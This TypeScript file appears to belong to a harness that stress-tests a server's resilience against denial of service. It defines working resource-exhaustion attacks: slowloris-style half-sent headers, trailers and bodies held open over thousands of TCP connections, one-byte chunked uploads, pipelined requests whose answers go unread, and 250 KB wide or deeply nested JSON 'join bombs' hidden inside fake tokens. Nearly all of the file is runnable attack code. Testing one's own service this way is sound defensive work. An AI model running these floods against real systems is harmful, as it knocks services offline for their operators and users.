import { setTimeout as sleep } from 'node:timers/promises';
import { enginePath, inParallel, type Attack, type AttackContext } from '../attack.js';
import { attackFrame, RawClient } from '../raw-client.js';
import { openPolling } from '../requests.js';

const authorization = ({ attacker, token }: AttackContext) =>
  attacker === 'user' ? `Authorization: Bearer ${token}\r\n` : '';

/** 250 KB of JSON in the packet by which a client joins: wide, and as the head or the claims of a token. */
const wide = `{${Array.from({ length: 20_000 }, (_, i) => `"k${i}":0`).join(',')}}`;
const encoded = (text: string) => Buffer.from(text).toString('base64url');
const joins = [
  `40${wide}`,
  `40{"token":"${encoded(wide.slice(0, 180_000))}.e30.AAAA"}`,
  `40{"token":"${encoded('{"alg":"HS256"}')}.${encoded(wide.slice(0, 180_000))}.AAAA"}`,
  `40{"token":"${encoded(`{"alg":"HS256","x":${'['.repeat(60_000)}${']'.repeat(60_000)}}`)}.e30.AAAA"}`,
];

/** 15 KB of header fields. */
const manyFields = Array.from({ length: 100 }, (_, n) => `X-${n}: ${'a'.repeat(140)}\r\n`).join('');

/** What is small or ordinary in its size, and costly in its shape. */
export const shapes: readonly Attack[] = [
  {
    name: 'pieces',
    what: 'bodies to /api in chunks of one byte',
    as: ['nobody', 'user'],
    run: (context) => pieces(context, () => Promise.resolve('/api/publish')),
  },
  {
    name: 'pieces-polling',
    what: 'bodies of long-polling in chunks of one byte',
    as: ['nobody'],
    run: (context) => pieces(context, async () => (await openPolling(context))?.path),
  },
  {
    name: 'pipelined',
    what: '200 connections with 32 requests in one piece',
    as: ['nobody'],
    run: (context) => {
      const requests = Buffer.from(
        ['/health', '/admin/connections', '/nothing', '/api/history?topic=a']
          .map((path) => `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`)
          .join('')
          .repeat(8),
      );
      return onNewConnections(context, 200, async (client) => {
        client.send(requests);
        context.counts.sentBytes += requests.length;
        await sleep(50);
      });
    },
  },
  {
    name: 'pipelined-unread',
    what: '500 connections with 15 requests for /metrics in one piece, answers unread',
    as: ['nobody'],
    run: (context) => {
      const requests = 'GET /metrics HTTP/1.1\r\nHost: x\r\nAccept: text/plain\r\n\r\n'.repeat(15);
      return onNewConnections(context, 500, async (client) => {
        client.stopReading();
        client.send(requests);
        context.counts.sentBytes += requests.length;
        await client.until(() => Date.now() >= context.endsAt, 60_000);
      });
    },
  },
  {
    name: 'half-heads',
    what: '5,000 connections with half a head of 15 KB',
    as: ['nobody'],
    run: (context) =>
      onNewConnections(context, 5000, async (client) => {
        client.send(`GET / HTTP/1.1\r\nHost: x\r\n${manyFields}X-Last: `);
        context.counts.sentBytes += manyFields.length;
        while (!client.isClosed && Date.now() < context.endsAt) await sleep(200);
      }),
  },
  {
    name: 'half-trailers',
    what: '5,000 connections with a body in chunks, and half of the trailers of 15 KB that follow it',
    as: ['nobody', 'user'],
    run: (context) =>
      onNewConnections(context, 5000, async (client) => {
        client.send(
          `POST /api/publish HTTP/1.1\r\nHost: x\r\n${authorization(context)}` +
            `Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n${manyFields}X-Last: `,
        );
        context.counts.sentBytes += manyFields.length;
        while (!client.isClosed && Date.now() < context.endsAt) await sleep(200);
      }),
  },
  {
    name: 'half-bodies',
    what: '3,000 connections with half of a body of two bytes',
    as: ['nobody', 'user'],
    run: (context) =>
      onNewConnections(context, 3000, async (client) => {
        client.send(
          `POST /api/publish HTTP/1.1\r\nHost: x\r\n${authorization(context)}` +
            'Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{',
        );
        while (!client.isClosed && Date.now() < context.endsAt) await sleep(200);
      }),
  },
  {
    name: 'join-bombs',
    what: 'packets of 250 KB by which a client joins, wide, deep, or with a token that is',
    as: ['nobody'],
    run: async (context) => {
      let round = 0;
      const frames = joins.map((packet) => attackFrame(packet));
      await inParallel(20, async () => {
        while (Date.now() < context.endsAt) {
          const client = await RawClient.upgrade(context.target, enginePath);
          if (client === undefined) {
            context.counts.refused++;
            await sleep(2);
            continue;
          }
          context.counts.opened++;
          const frame = frames[round++ % frames.length]!;
          await client.sendAll(frame);
          context.counts.sentBytes += frame.length;
          await client.until(() => /4\{"message|44\{/.test(client.received), 1000);
          if (client.isClosed) context.counts.closed++;
          client.destroy();
        }
      });
    },
  },
];

function pieces(context: AttackContext, pathOf: () => Promise<string | undefined>): Promise<void> {
  const chunks = Buffer.from('1\r\na\r\n'.repeat(10_000));
  return onNewConnections(context, 50, async (client) => {
    const path = await pathOf();
    if (path === undefined) return;
    client.send(
      `POST ${path} HTTP/1.1\r\nHost: x\r\n${authorization(context)}Transfer-Encoding: chunked\r\n\r\n`,
    );
    for (let n = 0; n < 20 && Date.now() < context.endsAt; n++) {
      if (!(await client.sendAll(chunks))) break;
      context.counts.sentBytes += chunks.length;
    }
  });
}

/** Uses so many TCP connections at a time, each for one piece of work. */
function onNewConnections(
  context: AttackContext,
  connections: number,
  work: (client: RawClient) => Promise<void>,
): Promise<void> {
  return inParallel(connections, async () => {
    while (Date.now() < context.endsAt) {
      const client = await RawClient.open(context.target);
      if (client === undefined) {
        context.counts.refused++;
        await sleep(50);
        continue;
      }
      context.counts.opened++;
      await work(client);
      if (client.isClosed) context.counts.closed++;
      client.destroy();
    }
  });
}
